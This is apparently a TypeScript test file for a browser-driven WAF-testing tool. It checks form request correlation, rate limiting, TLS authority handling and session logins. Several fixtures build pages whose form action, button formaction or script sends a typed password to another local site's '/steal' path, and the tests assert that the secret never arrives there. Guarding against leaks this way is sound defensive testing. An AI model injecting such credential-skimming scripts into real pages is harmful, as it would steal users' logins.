import type { RequestListener } from 'node:http';
import { expect, test } from 'vitest';
import type { SessionOptions } from '../../src/model/session-options.js';
import type { TargetOptions } from '../../src/model/target-options.js';
import { targetBrowser } from '../../src/pipeline/target-browser.js';
import { serveTls } from '../replay/certificates.js';
import { serveHttp } from '../replay/loopback.js';
import { chromium } from '../report/browser.js';
import { startTestLab } from './doctor-target.js';
import { runAgainst } from './run-against.js';

const withBrowser = test.skipIf(chromium === undefined);
const environment = process.env as Record<string, string>;

interface Taken {
  readonly line: string;
  readonly body: string;
  readonly id: string | undefined;
}

/** A server that tells what it is asked for, and shows one page. */
async function serveSite(page: string, answer: RequestListener = (_, response) => void response.end('ok')) {
  const taken: Taken[] = [];
  const url = await serveHttp(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    const id = request.headers['x-wafproof-id'];
    taken.push({ line: `${request.method} ${request.url}`, body, id: id?.toString() });
    response.setHeader('Content-Type', 'text/html');
    if (request.url === '/page') response.end(`<!doctype html><title>Page</title>${page}`);
    else answer(request, response);
  });
  return { url, taken };
}

async function runIn(url: string, cases: string, target: Partial<TargetOptions> = {}, env = environment) {
  const lab = await startTestLab({ upstream: url });
  const options = { env, target: { logWaitMs: 2000, timeoutMs: 8000, ...target } };
  return runAgainst(lab, `suite: S\ncases:\n${cases}`, options);
}

const one = (from: string) =>
  `  - { id: a, browser: true, from: { page: /page${from} }, form: { text: We open on Monday. } }\n`;

const field = '<input name=text><button>Save</button></form>';
const autosave = "fetch('/autosave', { method: 'POST', keepalive: true, body: document.forms[0].elements.text.value })";
const own = (path: string) =>
  `fetch('${path}', { method: 'POST', body: new URLSearchParams(new FormData(document.forms[0])) })`;

test.skipIf(chromium === undefined).each<[string, string, string, string]>([
  [
    'before the page goes on',
    `<form method=post action=/save>${field}<script>document.forms[0].addEventListener('submit', () => { ${autosave}; });</script>`,
    '',
    '/save',
  ],
  [
    'when the button is pressed',
    `<form method=post action=/save>${field}<script>document.forms[0].querySelector('button').addEventListener('mousedown', () => { ${autosave}; });</script>`,
    '',
    '/save',
  ],
  [
    'by the script that sends the form to its action',
    `<form method=post action=/save>${field}<script>document.forms[0].addEventListener('submit', async (event) => { event.preventDefault(); await ${autosave}; await ${own('/save')}; });</script>`,
    '',
    '/save',
  ],
  [
    'by a script that sends it as the case says',
    `<form>${field}<script>document.forms[0].addEventListener('submit', async (event) => { event.preventDefault(); await ${autosave}; await ${own('/api/own')}; });</script>`,
    ', form: form, action: /api/own',
    '/api/own',
  ],
  [
    'that was seen before',
    `<form>${field}<script>document.forms[0].addEventListener('input', () => { ${autosave}; }); document.forms[0].addEventListener('submit', async (event) => { event.preventDefault(); await ${autosave}; await ${own('/api/own')}; });</script>`,
    ', form: form',
    '/api/own',
  ],
])('the request of a form is its own, and not what the page saves by itself %s', async (_, page, from, path) => {
  const { url, taken } = await serveSite(page);
  const report = await runIn(url, one(from));
  expect(report.results).toMatchObject([{ verdict: { kind: 'let-through' }, request: { path } }]);
  const marked = taken.filter(({ id }) => id === report.results[0]?.correlationId);
  expect(marked.map(({ line }) => line)).toEqual([`POST ${path}`]);
});

withBrowser('a form whose script sends it elsewhere than its action says how to name that', async () => {
  const script = `document.forms[0].addEventListener('submit', (event) => { event.preventDefault(); ${own('/api/own')}; });`;
  const { url } = await serveSite(`<form method=post action=/save>${field}<script>${script}</script>`);
  const report = await runIn(url, one(''), { timeoutMs: 8000 });
  expect(report.results[0]?.verdict).toEqual({
    kind: 'inconclusive',
    reason: expect.stringMatching(
      /only these were sent: POST \S+\/api\/own .*; if one of them is the form's, name its path as "action" of "from"/,
    ),
  });
});

withBrowser('a page keeps to the rate of the target, with all that it asks for', async () => {
  let last = 0;
  const scripts = Array.from({ length: 40 }, (_, i) => `<script src=/s${i}.js></script>`).join('');
  const { url, taken } = await serveSite(`${scripts}<form method=post action=/save>${field}`, (_, response) => {
    last = performance.now();
    response.end('');
  });
  const begun = performance.now();
  const report = await runIn(url, one(''), { rate: 10 });
  expect(report.summary.verdicts).toEqual({ 'let-through': 1 });
  // However busy the machine is, so many requests are not sent sooner; only the first of all goes at once.
  expect(taken.length).toBeGreaterThan(41);
  expect(last - begun).toBeGreaterThan((taken.length - 2) * 100);
});

const signal = new AbortController().signal;

withBrowser('the authority of the target is the browser’s, too, and no other is', async () => {
  const { url, ca } = await serveTls();
  const other = await serveTls();
  const visit = async (authority: string | undefined) => {
    const http = { url, connections: 1, timeoutMs: 8000, ...(authority !== undefined && { ca: authority }) };
    const browser = targetBrowser(http, { env: environment, signal });
    try {
      return await (await browser.user({})).visit(url);
    } finally {
      await browser.close();
    }
  };
  expect(await visit(ca)).toMatchObject({ kind: 'open', status: 200 });
  for (const authority of [undefined, other.ca])
    expect(await visit(authority)).toMatchObject({ kind: 'not-done', came: expect.stringContaining('ERR_CERT') });
});

test.each<[string, string, Partial<TargetOptions>]>([
  ['a case', one(''), {}],
  ['a session', '  - { id: a, path: / }\n', { session: { browser: { values: {} } } }],
])('that no browser can be had is told before anything is sent: for %s', async (_, cases, target) => {
  const { url, taken } = await serveSite('');
  const running = runIn(url, cases, target, { ...environment, WAFPROOF_BROWSER: '/nowhere/chromium' });
  await expect(running).rejects.toMatchObject({ code: 'BROWSER_START' });
  expect(taken).toEqual([]);
});

const logIn = (own: Partial<SessionOptions> = {}): SessionOptions => ({
  browser: { values: {} },
  steps: [
    { get: '/page' },
    { submit: 'form', fill: [['text', { name: 'APP_PASSWORD', value: 'Sesame-open-7741' }]], expect: { status: 200 } },
  ],
  ...own,
});

test.skipIf(chromium === undefined).each<[string, (to: string) => string]>([
  ['by an action', (to) => `<form method=post action="${to}/steal">${field}`],
  [
    'by its button',
    (to) => `<form method=post action=/save><input name=text><button formaction="${to}/steal">Save</button></form>`,
  ],
  [
    'by a script',
    (to) =>
      `<form method=post action=/save>${field}<script>document.forms[0].addEventListener('submit', () => { fetch('${to}/steal', { method: 'POST', mode: 'no-cors', keepalive: true, body: document.forms[0].elements.text.value }); });</script>`,
  ],
  [
    'by a script that changes the action',
    (to) =>
      `<form method=post action=/save>${field}<script>document.forms[0].addEventListener('submit', () => { document.forms[0].action = '${to}/steal'; });</script>`,
  ],
])('what is typed in a browser does not leave for another site %s', async (_, page) => {
  const stranger = await serveSite('');
  const elsewhere = stranger.url.replace('127.0.0.1', 'localhost');
  const { url } = await serveSite(page(elsewhere));
  await runIn(url, '  - { id: a, path: / }\n', { session: logIn(), timeoutMs: 8000 }).catch((error: Error) => {
    expect(error.message).toContain('SESSION_FAILED');
    expect(error.message).toContain(elsewhere.replace('http://', ''));
    expect(error.message).not.toContain('Sesame');
  });
  expect(stranger.taken.map(({ line, body }) => `${line} ${body}`).join()).not.toContain('Sesame');
});

withBrowser('a login on another site is one where that is named', async () => {
  const stranger = await serveSite(`<form method=post action=/in>${field}`);
  const elsewhere = stranger.url.replace('127.0.0.1', 'localhost');
  const { url } = await serveSite('', (_, response) => void response.end('ok'));
  const steps = [{ get: `${elsewhere}/page` }, ...(logIn().steps ?? []).slice(1)];
  const report = await runIn(url, '  - { id: a, path: / }\n', { session: logIn({ steps }) });
  expect(report.summary.verdicts).toEqual({ 'let-through': 1 });
  expect(stranger.taken.map(({ line, body }) => `${line} ${body}`)).toContain('POST /in text=Sesame-open-7741');
});
